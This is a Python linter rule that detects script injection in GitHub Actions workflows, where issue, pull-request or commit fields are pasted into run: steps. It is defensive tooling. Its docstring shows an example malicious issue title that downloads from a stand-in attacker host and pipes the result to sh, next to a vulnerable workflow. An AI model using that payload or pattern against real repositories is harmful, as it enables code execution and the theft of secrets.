"""## What it does
Finds GitHub Actions workflows that paste attacker-controlled event data
straight into a script: ``${{ ... }}`` expressions inside a step's ``run:``
(or ``actions/github-script``'s ``script:``) that read
``github.event.issue.title`` / ``.body``, ``github.event.pull_request.title``
/ ``.body`` / ``.head.ref`` / ``.head.label``, ``github.head_ref``,
``github.event.comment.body``, ``github.event.review.body``,
``github.event.review_comment.body``, ``github.event.discussion.title`` /
``.body``, ``github.event.pages.*.page_name``,
``github.event.commits.*.message`` / ``.author.email`` / ``.author.name``,
``github.event.head_commit.message`` / ``.author.*`` and
``github.event.workflow_run.head_branch``.  Passing the value through
``env:`` and quoting the variable (``"$TITLE"``) is the safe form and is
not reported.

## Why is this bad?
The runner substitutes ``${{ }}`` into the script text before the shell
sees it, so an issue titled ``a"; curl https://evil.example/x | sh; echo "``
becomes shell code.  Anyone can open an issue, comment or pull request
(branch names too), and the job runs with the repository's ``GITHUB_TOKEN``
and secrets: the attacker pushes code, steals secrets or poisons releases.

## Example
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue: ${{ github.event.issue.title }}"
```

## Use instead
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue: $TITLE"
```

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- [CWE-94: Improper Control of Generation of Code](https://cwe.mitre.org/data/definitions/94.html)
- [GitHub Docs: Security hardening, understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
"""

from __future__ import annotations

import re
from typing import Iterator

from ...languages.yaml import YamlView
from ...model import Hit
from ..registry import rule

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
UNTRUSTED = re.compile(
    r"\bgithub\s*\.\s*(?:"
    r"head_ref\b"
    r"|event\.(?:issue|pull_request|comment|review|review_comment|discussion|discussion_comment)\.(?:title|body)\b"
    r"|event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
    r"|event\.pages\b[^\s,)]*\.page_name\b"
    r"|event\.commits\b[^\s,)]*\.(?:message|author\.(?:email|name))\b"
    r"|event\.(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name))\b"
    r"|event\.workflow_run\.(?:head_branch|display_title)\b"
    r")",
    re.IGNORECASE,
)
SCRIPT_KEYS = frozenset({"run", "script"})


@rule(
    id="DSK008",
    symbol="github-actions-script-injection",
    title="GitHub Actions script built from untrusted event data",
    severity="high",
    cwe=78,
    languages=("yaml",),
    triggers=("github",),
    equivalent="zizmor template-injection, Semgrep yaml.github-actions.security.run-shell-injection",
    message="an issue, pull request or commit field is pasted into the script, so its author can run code in "
            "the workflow; pass it through env: and use \"$VAR\"",
    use_instead='env: {TITLE: ${{ github.event.issue.title }}} and run: echo "$TITLE"',
)
def check(yaml: YamlView) -> Iterator[Hit]:
    lines = yaml.text.splitlines()
    for entry in yaml.entries:
        if entry.key not in SCRIPT_KEYS or not entry.is_scalar or "${{" not in entry.value:
            continue
        for match in EXPRESSION.finditer(entry.value):
            found = UNTRUSTED.search(match.group(1))
            if found:
                context = " ".join(found.group(0).split())
                yield Hit(_line_of(lines, entry.line, context), 1,
                          f"`${{{{ {context} }}}}` is pasted into the `{entry.key}:` script, so whoever writes it "
                          "can inject commands; pass it through `env:` and use the quoted variable")


def _line_of(lines: list[str], start: int, context: str) -> int:
    """The line of a block scalar that holds the expression (the key's line if not found)."""
    for number in range(start, min(len(lines), start + 400) + 1):
        if context in lines[number - 1]:
            return number
    return start
